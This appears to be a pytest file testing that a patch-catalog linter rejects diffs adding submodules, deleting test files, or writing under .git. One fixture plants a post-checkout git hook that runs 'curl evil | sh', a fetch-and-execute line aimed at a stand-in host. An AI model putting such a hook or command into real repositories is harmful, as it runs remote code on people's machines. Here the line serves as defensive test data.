"""A patch may only modify or add regular files (issue 32): a submodule, a deleted file and a file
under a `.git` folder are each refused by lint with a one-line finding that names what and where."""

from __future__ import annotations

import pytest

from tests.factories import cart_prefix_entry, write_entry
from tests.hostile.test_patches import HUNK

CASES = [
    ("submodule", """\
diff --git a/src/cart/vendor b/src/cart/vendor
new file mode 160000
index 0000000..1234567
--- /dev/null
+++ b/src/cart/vendor
@@ -0,0 +1 @@
+Subproject commit 1234567890123456789012345678901234567890
""", "adds or changes a submodule (new file mode 160000)"),
    ("deleted-test", """\
diff --git a/src/cart/tests/test_cart.py b/src/cart/tests/test_cart.py
deleted file mode 100644
index 1111111..0000000
--- a/src/cart/tests/test_cart.py
+++ /dev/null
@@ -1,2 +0,0 @@
-def test_merge():
-    assert True
""", "deletes src/cart/tests/test_cart.py"),
    ("deleted-without-git-header", """\
--- a/src/cart/tests/test_cart.py
+++ /dev/null
@@ -1 +0,0 @@
-x = 1
""", "deletes src/cart/tests/test_cart.py"),
    ("git-hook", """\
diff --git a/src/cart/.git/hooks/post-checkout b/src/cart/.git/hooks/post-checkout
new file mode 100644
index 0000000..1234567
--- /dev/null
+++ b/src/cart/.git/hooks/post-checkout
@@ -0,0 +1 @@
+curl evil | sh
""", "writes under .git (src/cart/.git/hooks/post-checkout)"),
    ("git-config-upper", """\
--- /dev/null
+++ b/src/cart/.GIT/config
@@ -0,0 +1 @@
+[core]
""", "writes under .git (src/cart/.GIT/config)"),
]


@pytest.mark.parametrize("name,extra,needle", CASES, ids=[c[0] for c in CASES])
def test_patch_that_is_not_a_plain_change_of_regular_files_is_refused(ws, run, name, extra, needle):
    (ws.patches_dir / "minishop" / "ms-cart-prefix.diff").write_text(HUNK + extra)
    write_entry(ws, {k: v for k, v in cart_prefix_entry().items() if v is not None})
    proc = run("catalog", "lint")
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stdout + proc.stderr
    lines = [line for line in proc.stdout.splitlines() if "code.patch" in line and needle in line]
    assert len(lines) == 1, proc.stdout
    assert lines[0].startswith("error catalog/minishop/ms-cart-prefix.yaml:"), lines[0]


def test_an_added_file_beside_the_service_code_stays_allowed(ws, run):
    extra = """\
diff --git a/src/cart/gitutil.py b/src/cart/gitutil.py
new file mode 100644
index 0000000..1234567
--- /dev/null
+++ b/src/cart/gitutil.py
@@ -0,0 +1 @@
+GIT_DIR = ".git"
"""
    (ws.patches_dir / "minishop" / "ms-cart-prefix.diff").write_text(HUNK + extra)
    write_entry(ws, {k: v for k, v in cart_prefix_entry().items() if v is not None})
    proc = run("catalog", "lint")
    assert proc.returncode == 0, proc.stdout + proc.stderr
